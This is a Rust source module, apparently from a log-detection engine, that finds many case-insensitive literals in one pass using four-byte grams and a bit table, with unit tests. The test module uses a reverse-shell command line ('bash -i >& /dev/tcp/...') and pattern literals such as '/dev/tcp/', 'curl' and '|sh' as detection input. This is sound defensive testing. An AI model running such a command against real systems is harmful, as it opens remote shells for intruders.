//! Many literals, found in one pass over a text.
//!
//! In: literals, each with the numbers of what it stands for, once; texts, often. Out: the numbers of the literals that
//! stand in a text, in any case. Of each literal the rarest-looking run of five bytes is kept as two grams of four, one
//! of which stands at an even place of the text wherever the literal does: so a pass looks at every second place
//! only, asks a small table of bits whether the four bytes there are a gram at all, and compares the literal only where
//! they are. A pass depends little on the number of literals, and needs no automaton to be built: rules load in no
//! time. Literals of three and four bytes have grams with one byte that may be any. Shorter ones are left out on
//! purpose: they stand nearly everywhere. Texts that are not ASCII must be folded by the caller.
//!
//! Bounded: a pass costs the length of the text times the literals that share a gram, which [`Literals::new`] keeps few.

use super::fold::is_folded;
use std::collections::BTreeMap;

/// Shortest literal.
pub(super) const LITERAL_BYTES: usize = 3;
/// Bits of the table, as a power of two: 16 KiB, a third of a usual first-level cache. Some 4,000 grams, as all of
/// SigmaHQ's rules have in one field, fill it to 3 %: so many of the places where none of them stands look as if one did.
/// One size for all, so that a pass has nothing to check.
const TABLE_BITS: u32 = 17;
const TABLE_WORDS: usize = 1 << (TABLE_BITS - 5);
/// 2^32 divided by the golden ratio (Knuth, The Art of Computer Programming 3, §6.4): spreads what is alike.
const SPREAD: u32 = 0x9E37_79B1;
/// The bit that tells upper from lower case in ASCII, in each byte.
const CASE: u32 = 0x2020_2020;
/// The first three bytes of a gram.
const SHORT: u32 = 0x00FF_FFFF;
/// Bytes that are read at once: with the next two, four grams at every second place.
const BLOCK_BYTES: usize = 8;
/// Grams that stand in many paths and command lines.
const COMMON_GRAMS: [&[u8; 4]; 51] = [
    b"/usr", b"usr/", b"sr/b", b"r/bi", b"/bin", b"bin/", b"/etc", b"etc/", b"/var", b"/lib", b"/tmp",
    b"tmp/", b"/opt", b"opt/", b"/pro", b"proc", b"roc/", b"http", b"ttp:", b"ttps", b"tps:", b"tp:/",
    b"p://", b"://l", b"//lo", b"loca", b"ocal", b"calh", b"alho", b"lhos", b"host", b"ost:", b"port",
    b"--po", b"-con", b"conf", b"scri", b"ript", b"inst", b"nsta", b"stal", b"tall", b"stat", b"tatu",
    b"serv", b"erve", b"user", b"name", b".exe", b".com", b"syst",
];

/// Literals of one field.
#[derive(Debug, Default)]
pub(super) struct Literals {
    /// A bit for each hash of a gram; nothing where there are no literals.
    table: Option<Box<[u32; TABLE_WORDS]>>,
    literals: Vec<Literal>,
    /// Where literals have their grams.
    whole: Buckets,
    /// The same for grams of three bytes.
    short: Buckets,
}

#[derive(Debug)]
struct Literal {
    /// Folded.
    text: Box<[u8]>,
    stands_for: Box<[u32]>,
}

/// A gram of a literal.
#[derive(Debug, Clone, Copy)]
struct Spot {
    gram: u32,
    literal: u32,
    /// A literal whose gram stands at `place` begins at `place` + 1 - `back`.
    back: u32,
}

impl Literals {
    /// Makes folded literals ready; those that are too short are left out.
    pub(super) fn new(literals: BTreeMap<String, Vec<u32>>) -> Self {
        let mut ready = Self::default();
        let (mut whole, mut short) = (Vec::new(), Vec::new());
        let mut uses: BTreeMap<u32, i64> = BTreeMap::new();
        for (text, stands_for) in literals.into_iter().filter(|(text, _)| text.len() >= LITERAL_BYTES) {
            let literal = u32::try_from(ready.literals.len()).unwrap_or(u32::MAX);
            let text = text.into_bytes().into_boxed_slice();
            let spot = |gram, back| Spot { gram, literal, back };
            match *text {
                [a, b, c] => {
                    let gram = gram([a, b, c, 0]) & SHORT;
                    short.extend([spot(gram, 1), spot(gram, 0)]);
                    ready.expect_first(gram);
                    ready.expect_last(gram);
                }
                [a, b, c, d] => {
                    whole.push(spot(gram([a, b, c, d]), 1));
                    let tail = gram([a, b, c, 0]) & SHORT;
                    short.push(spot(tail, 0));
                    ready.expect(gram([a, b, c, d]));
                    ready.expect_last(tail);
                }
                _ => {
                    let (at, pair) = rarest_pair(&text, &uses);
                    let back = u32::try_from(at).unwrap_or(u32::MAX).saturating_add(1);
                    for (gram, back) in pair.into_iter().zip([back, back.saturating_add(1)]) {
                        whole.push(spot(gram, back));
                        *uses.entry(gram).or_default() += 1;
                        ready.expect(gram);
                    }
                }
            }
            ready.literals.push(Literal { text, stands_for: stands_for.into_boxed_slice() });
        }
        ready.whole = Buckets::new(whole);
        ready.short = Buckets::new(short);
        ready
    }

    /// Whether there are none.
    pub(super) fn is_empty(&self) -> bool {
        self.literals.is_empty()
    }

    /// Sets the bit of a gram.
    fn expect(&mut self, gram: u32) {
        let (word, bit) = bit(gram);
        let table = self.table.get_or_insert_with(|| Box::new([0; TABLE_WORDS]));
        if let Some(word) = table.get_mut(word) {
            *word |= bit;
        }
    }

    /// Sets the bits of the grams that begin with these three bytes.
    fn expect_first(&mut self, short: u32) {
        (0..=u8::MAX).for_each(|other| self.expect(short | u32::from(other) << 24 | CASE));
    }

    /// Sets the bits of the grams that end with these three bytes.
    fn expect_last(&mut self, short: u32) {
        (0..=u8::MAX).for_each(|other| self.expect(short << 8 | u32::from(other) | CASE));
    }

    /// Appends the numbers of each literal that stands in `text`, perhaps more than once.
    #[inline]
    pub(super) fn find(&self, text: &[u8], found: &mut Vec<u32>) {
        let Some(table) = self.table.as_deref() else { return };
        let (blocks, tail) = text.as_chunks::<BLOCK_BYTES>();
        // What no literal has stands after the end.
        let mut end = [0; BLOCK_BYTES];
        end.iter_mut().zip(tail).for_each(|(into, byte)| *into = *byte);
        let end = u64::from_le_bytes(end);
        let mut at = 0;
        let mut blocks = blocks.iter().map(|block| u64::from_le_bytes(*block));
        if let Some(mut block) = blocks.next() {
            for next in blocks {
                self.look(table, (text, at), block, next, found);
                (block, at) = (next, at + BLOCK_BYTES);
            }
            self.look(table, (text, at), block, end, found);
            at += BLOCK_BYTES;
        }
        if tail.len() >= LITERAL_BYTES {
            self.look(table, (text, at), end, 0, found);
        }
    }

    /// Looks at the places of one block, which stands in the text at a place and is followed by another. Part of the pass:
    /// as a call, it costs a third more.
    #[inline(always)]
    fn look(
        &self,
        table: &[u32; TABLE_WORDS],
        (text, at): (&[u8], usize),
        block: u64,
        next: u64,
        found: &mut Vec<u32>,
    ) {
        let case = u64::from(CASE) << 32 | u64::from(CASE);
        let (block, next) = (block | case, next | case);
        let part = |bytes: u64| (bytes & u64::from(u32::MAX)) as u32;
        let grams = [part(block), part(block >> 16), part(block >> 32), part(block >> 48 | next << 16)];
        let [first, second, third, fourth] = grams.map(|gram| is_set(table, gram));
        let stand = first | second << 1 | third << 2 | fourth << 3;
        if stand != 0 {
            self.compare_block(text, at, (grams, stand), found);
        }
    }

    /// Compares the literals that may stand at the places of a block at `at`, of whose grams those are in the table whose
    /// bits are set.
    #[cold]
    #[inline(never)]
    fn compare_block(
        &self,
        text: &[u8],
        at: usize,
        (grams, mut stand): ([u32; 4], u32),
        found: &mut Vec<u32>,
    ) {
        while stand != 0 {
            let number = stand.trailing_zeros() as usize;
            stand &= stand - 1;
            if let Some(gram) = grams.get(number) {
                self.compare_at(text, at + 2 * number, *gram, found);
            }
        }
    }

    /// Compares the literals that have this gram, which perhaps stands in `text` at `place`.
    #[inline]
    fn compare_at(&self, text: &[u8], place: usize, gram: u32, found: &mut Vec<u32>) {
        for spot in self.whole.of(gram) {
            if spot.gram == gram {
                self.compare(text, place, spot, found);
            }
        }
        for (short, back) in [(gram & SHORT, 1), (gram >> 8, 0)] {
            if self.short.may_have(short) {
                let spots = self.short.of(short).iter();
                spots
                    .filter(|spot| spot.gram == short && spot.back == back)
                    .for_each(|spot| self.compare(text, place, spot, found));
            }
        }
    }

    /// Compares a literal whose gram stands in `text` at `place`.
    #[inline]
    fn compare(&self, text: &[u8], place: usize, spot: &Spot, found: &mut Vec<u32>) {
        let Some(literal) = self.literals.get(spot.literal as usize) else { return };
        let stands = (place + 1).checked_sub(spot.back as usize).is_some_and(|start| {
            text.get(start..start + literal.text.len()).is_some_and(|part| is_folded(part, &literal.text))
        });
        if stands {
            found.extend_from_slice(&literal.stands_for);
        }
    }
}

/// Spots by hash of their gram.
#[derive(Debug, Default)]
struct Buckets {
    /// Where in `spots` each bucket begins, and the end of the last; a power of two and one, or nothing.
    starts: Vec<u32>,
    spots: Vec<Spot>,
    shift: u32,
    /// A bit for each hash of a gram: most grams are not here, and are not looked up.
    seen: [u64; 4],
}

impl Buckets {
    fn new(mut spots: Vec<Spot>) -> Self {
        if spots.is_empty() {
            return Self::default();
        }
        let bits = spots.len().next_power_of_two().ilog2().clamp(1, 16);
        let shift = u32::BITS - bits;
        let bucket = |spot: &Spot| spread(spot.gram) >> shift;
        spots.sort_by_key(bucket);
        let starts = (0..=1_u32 << bits).map(|number| {
            u32::try_from(spots.partition_point(|spot| bucket(spot) < number)).unwrap_or(u32::MAX)
        });
        let mut seen = [0; 4];
        for spot in &spots {
            let (word, bit) = Self::seen_at(spot.gram);
            if let Some(word) = seen.get_mut(word) {
                *word |= 1 << bit;
            }
        }
        Self { starts: starts.collect(), spots, shift, seen }
    }

    fn seen_at(gram: u32) -> (usize, u32) {
        let hash = spread(gram);
        ((hash >> 30) as usize, hash >> 24 & 63)
    }

    /// Whether there may be spots of this gram.
    #[inline]
    fn may_have(&self, gram: u32) -> bool {
        let (word, bit) = Self::seen_at(gram);
        self.seen.get(word).is_some_and(|word| word >> bit & 1 == 1)
    }

    /// The spots whose gram has the hash of this one.
    #[inline]
    fn of(&self, gram: u32) -> &[Spot] {
        let bucket = (spread(gram).checked_shr(self.shift).unwrap_or(0)) as usize;
        let Some(ends) = self.starts.get(bucket..).and_then(<[u32]>::first_chunk::<2>) else { return &[] };
        let [start, end] = *ends;
        self.spots.get(start as usize..end as usize).unwrap_or_default()
    }
}

/// Where the table has the bit of a gram: the word and the bit in it.
#[inline]
fn bit(gram: u32) -> (usize, u32) {
    let hash = spread(gram);
    ((hash >> (u32::BITS + 5 - TABLE_BITS)) as usize, 1 << (hash >> (u32::BITS - TABLE_BITS) & 31))
}

/// 1 where the table has the bit of a gram, else 0.
#[inline]
fn is_set(table: &[u32; TABLE_WORDS], gram: u32) -> u32 {
    let hash = spread(gram);
    let word = table.get((hash >> (u32::BITS + 5 - TABLE_BITS)) as usize).copied().unwrap_or(0);
    word >> (hash >> (u32::BITS - TABLE_BITS) & 31) & 1
}

#[inline]
fn spread(gram: u32) -> u32 {
    gram.wrapping_mul(SPREAD)
}

/// Four bytes as a number, without case.
#[inline]
fn gram(bytes: [u8; 4]) -> u32 {
    u32::from_le_bytes(bytes) | CASE
}

/// Where the two grams of a literal of at least five bytes stand that look rarest, and the grams.
fn rarest_pair(text: &[u8], uses: &BTreeMap<u32, i64>) -> (usize, [u32; 2]) {
    let choices = text.array_windows::<5>().enumerate().map(|(at, &[a, b, c, d, e])| {
        let pair = [[a, b, c, d], [b, c, d, e]];
        let rank = pair.map(|bytes| {
            // Two that share a gram are worse than one that looks a little less rare.
            let sharing = uses.get(&gram(bytes)).copied().unwrap_or(0);
            let common = if COMMON_GRAMS.contains(&&bytes) { 8 } else { 0 };
            bytes.iter().map(|byte| rarity(*byte)).sum::<i64>() - 4 * sharing - common
        });
        (rank.into_iter().min(), rank.into_iter().sum::<i64>(), std::cmp::Reverse(at), pair.map(gram))
    });
    choices.max().map_or((0, [0; 2]), |(_, _, at, pair)| (at.0, pair))
}

/// How rarely a byte is seen in paths, command lines and log texts, roughly.
pub(super) fn rarity(byte: u8) -> i64 {
    match byte {
        b'e' | b't' | b'a' | b'o' | b'i' | b'n' | b's' | b'r' => 0,
        b'/' | b'\\' | b' ' | b'.' | b'l' | b'c' | b'd' | b'u' | b'm' | b'p' | b'-' => 1,
        b'a'..=b'z' | b'0'..=b'9' | b'=' | b'"' | b':' | b'_' => 2,
        _ => 4,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_literal_in_a_text_is_found_whatever_its_length_and_place() {
        let words = [
            "-i ",
            "curl",
            "/dev/tcp/",
            "aaaa",
            "aaaaa",
            "nothere",
            "ñandú",
            "|sh",
            "aaa",
            "xyzzy",
            "plugh plover",
        ];
        let literals = (0..).zip(words).map(|(number, word)| (word.to_owned(), vec![number]));
        let set = Literals::new(literals.collect());
        let texts = [
            "bash -i >& /dev/tcp/1.2.3.4/9",
            "CURL",
            "curl x|SH",
            "|sh x",
            "xaaaaax",
            "",
            "s",
            "|s",
            "aaa",
            "el ñandú",
            "nother",
        ];
        let padded = (0..24).flat_map(|before| {
            let pad =
                |word: &&str, after: usize| format!("{}{word}{}", "-".repeat(before), ".".repeat(after));
            words.iter().flat_map(move |word| (0..12).map(move |after| pad(word, after))).collect::<Vec<_>>()
        });
        for text in texts.into_iter().map(str::to_owned).chain(padded) {
            let mut found = Vec::new();
            set.find(text.as_bytes(), &mut found);
            found.sort_unstable();
            found.dedup();
            let lower = text.to_lowercase();
            let expect: Vec<u32> =
                (0..).zip(words).filter(|(_, word)| lower.contains(word)).map(|(number, _)| number).collect();
            assert_eq!(found, expect, "{text}");
        }
    }

    #[test]
    fn a_literal_that_stands_for_several_names_all() {
        let set = Literals::new([("http".to_owned(), vec![3, 5])].into());
        let mut found = Vec::new();
        set.find(b"see http://x", &mut found);
        assert_eq!(found, [3, 5]);
    }
}
